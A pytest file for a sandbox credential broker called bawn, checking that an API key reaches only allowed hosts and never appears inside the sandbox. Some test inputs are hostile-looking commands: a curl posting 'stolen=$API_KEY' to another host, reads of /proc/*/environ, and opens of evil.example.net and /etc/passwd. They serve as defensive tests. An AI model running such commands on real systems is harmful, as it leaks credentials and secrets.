# SPDX-License-Identifier: Apache-2.0
"""A credential of the user's goes into the requests it is for, and nowhere else: supervisor, gate, broker and vault together."""

import json
import os
import signal
import subprocess
import time

REAL = "real-value-0123456789abcdef"
KEY = {"hosts": ["ok.example.com"], "header": "x-api-key", "env": ["API_KEY"], "store": "env", "variable": "REAL_KEY"}
ENV = {"REAL_KEY": REAL}


def define(net, **secrets):
    folder = net.runner.home / ".config" / "bawn"
    for part in (folder.parent, folder):
        if not part.exists():
            net.runner.mkdir(part, 0o700)
    path = folder / "secrets.json"
    path.write_text(json.dumps({"secrets": secrets}))
    path.chmod(0o600)
    net.runner.own(path)


def headers(hit):
    return dict(hit["headers"])


def uses(net):
    return [line for line in net.log() if line["kind"] == "secret"]


def test_goes_into_the_request(net):
    define(net, key=KEY)
    r = net.sandbox("sh", "-c", 'curl -sS -H "x-api-key: $API_KEY" https://ok.example.com/one', allow=["ok.example.com"], env=ENV)
    assert r.rc == 0, r
    (hit,) = net.hits(kind="request")
    assert headers(hit)["x-api-key"] == REAL
    assert REAL.encode() not in r.out + r.err, r  # the server echoes its headers
    assert b"credentials: key 1 time (ok.example.com)" in r.err, r
    (line,) = uses(net)
    assert (line["secret"], line["host"], line["port"], line["action"]) == ("key", "ok.example.com", 443, "allow")
    assert (net.runner.home / ".local/state/bawn/secret-use/key").exists()
    assert REAL not in json.dumps(net.log())


def test_is_not_in_the_sandbox(net):
    define(net, key=KEY)
    r = net.sandbox("sh", "-c", 'env; cat /proc/*/environ /proc/*/cmdline | tr "\\0" "\\n"; curl -sS https://ok.example.com/', allow=["ok.example.com"],
                    env=ENV)
    assert r.rc == 0, r
    assert headers(net.hits(kind="request")[0])["x-api-key"] == REAL
    assert REAL.encode() not in r.out + r.err, r
    assert b"API_KEY=" in r.out, r


def test_placeholder_elsewhere_is_blocked(net):
    define(net, key=KEY)
    r = net.sandbox("sh", "-c", 'curl -s -o /dev/null -w "%{http_code}\\n" -d "stolen=$API_KEY" https://other.example.com/; '
                    'curl -s -o /dev/null -w "%{http_code}\\n" https://other.example.com/', allow=["ok.example.com", "other.example.com"], env=ENV,
                    options=["--json"])
    report = json.loads(next(line for line in r.err.splitlines() if line.startswith(b"{")))
    assert r.out.startswith(b"403\n200\n"), r
    assert b"blocked: placeholder of key at other.example.com (1)" in r.err, r
    assert report["network"]["secrets"] == [{"name": "key", "host": "other.example.com", "used": 0, "blocked": 1}]
    assert all("x-api-key" not in headers(h) for h in net.hits(kind="request"))
    assert [x["secret"] for x in net.log() if x["code"] == "BAWN_NET_SECRET_MISPLACED"] == ["key"]


def test_host_without_a_rule_gets_nothing(net):
    define(net, key=KEY)
    r = net.sandbox("curl", "-s", "https://ok.example.com/", allow=["other.example.com"], env=ENV)
    assert not net.hits(kind="request"), r


def test_no_secrets(net):
    define(net, key=KEY)
    r = net.sandbox("sh", "-c", 'echo "[$API_KEY]"; curl -sS https://ok.example.com/', allow=["ok.example.com"], env=ENV, options=["--no-secrets"])
    assert r.out.startswith(b"[]\n"), r
    assert "x-api-key" not in headers(net.hits(kind="request")[0])


def test_value_that_cannot_be_had(net):
    define(net, key=KEY)
    r = net.sandbox("curl", "-s", "-w", "%{http_code}", "https://ok.example.com/", allow=["ok.example.com"])  # REAL_KEY is not set
    assert r.out.endswith(b"502"), r
    assert b"REAL_KEY" in r.err, r  # bawn-vault says why
    assert not net.hits(kind="request")
    (line,) = uses(net)
    assert (line["secret"], line["action"], line["code"]) == ("key", "deny", "BAWN_NET_SECRET_UNAVAILABLE")


def children_of(pid, name):
    """pid: nsenter, sh and setpriv have become bawn."""
    out = subprocess.run(["pgrep", "-P", str(pid), "-f", name], stdout=subprocess.PIPE).stdout.split()
    return [int(p) for p in out]


def wait_for(what):
    while not (got := what()):
        time.sleep(0.02)
    return got


def test_broker_that_is_killed_leaks_nothing_and_comes_again(net):
    define(net, key=KEY)
    p = net.popen(*net.command("sh", "-c", 'while read word; do curl -s -o /dev/null -w "%{http_code}\\n" https://ok.example.com/; done',
                               allow=["ok.example.com"]), env=ENV, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)

    def ask():
        p.stdin.write(b"go\n")
        p.stdin.flush()
        return p.stdout.readline()

    assert ask() == b"200\n"
    for _ in range(3):
        (broker,) = wait_for(lambda: children_of(p.pid, "bawn-broker --serve"))
        os.kill(broker, signal.SIGKILL)
        # The next request meets the dead one or its successor: refused, or with the value; never without it.
        while (got := ask()) != b"200\n":
            assert got in (b"502\n", b"503\n")
    p.stdin.close()
    assert p.wait() == 0, p.stderr.read()
    assert all(headers(h)["x-api-key"] == REAL for h in net.hits(kind="request"))
    assert b"bawn-broker was ended by signal 9" in p.stderr.read()


def test_command_store_once_for_many_requests(net):
    count = net.runner.home / "count"
    define(net, key={**{k: v for k, v in KEY.items() if k != "variable"}, "store": "command", "lifetime": "10m",
                     "command": ["/bin/sh", "-c", f"echo x >> {count}; echo {REAL}"]})
    r = net.sandbox("sh", "-c", "for i in 1 2 3 4 5 6 7 8; do curl -sS -o /dev/null https://ok.example.com/$i & done; wait", allow=["ok.example.com"])
    assert r.rc == 0, r
    assert [headers(h)["x-api-key"] for h in net.hits(kind="request")] == [REAL] * 8
    assert count.read_text() == "x\n"
    assert b"credentials: key 8 times (ok.example.com)" in r.err, r


KEPT = ("live", "roots")  # for the runs that there are, and for the next ones (spec/sandbox-folder.md)


def test_nothing_is_left(net):
    define(net, key=KEY)
    run = net.runner.mkdir(net.runner.home / "run", 0o700)
    net.sandbox("sh", "-c", "curl -sS https://ok.example.com/; ls /run/bawn", allow=["ok.example.com"], env={**ENV, "XDG_RUNTIME_DIR": str(run)})
    assert [f for f in (run / "bawn").iterdir() if f.name not in KEPT] == [] and list((run / "bawn" / "live").iterdir()) == []
    p = net.popen(*net.command("sh", "-c", "echo up; sleep 100"), env={**ENV, "XDG_RUNTIME_DIR": str(run)}, stdout=subprocess.PIPE)
    assert p.stdout.readline() == b"up\n"
    assert sorted(f.name.split("-")[0] for f in (run / "bawn").iterdir()) == ["in", "live", "roots"]
    p.kill()
    p.wait()
    net.sandbox("true", env={**ENV, "XDG_RUNTIME_DIR": str(run)})  # sweeps what the killed one has left
    assert [f for f in (run / "bawn").iterdir() if f.name not in KEPT] == [] and list((run / "bawn" / "live").iterdir()) == []


IDP = {"hosts": ["ok.example.com"], "store": "file", "oauth": {"token_url": "https://ok.example.com/token", "client_id": "bawn",
                                                               "authorize_url": "https://id.example.com/authorize"}}


def browser(net):
    """The host's: writes down what it was asked to open."""
    seen = net.runner.home / "opened"
    script = net.runner.write(net.runner.home / "browser", f'#!/bin/sh\necho "$*" >> {seen}\n', 0o755)
    return seen, {"BAWN_OPEN": str(script)}


def test_other_pages_are_only_shown(net):
    define(net, idp=IDP)
    seen, env = browser(net)
    other = "https://evil.example.net/authorize?redirect_uri=http://localhost:8765/"
    r = net.sandbox("sh", "-c", f"xdg-open '{other}'; xdg-open http://localhost:8765/; xdg-open file:///etc/passwd; true", env=env)
    assert [line for line in r.err.decode().splitlines() if "asks to open" in line] == [f"bawn: the sandbox asks to open {other}"], r
    assert not seen.exists()
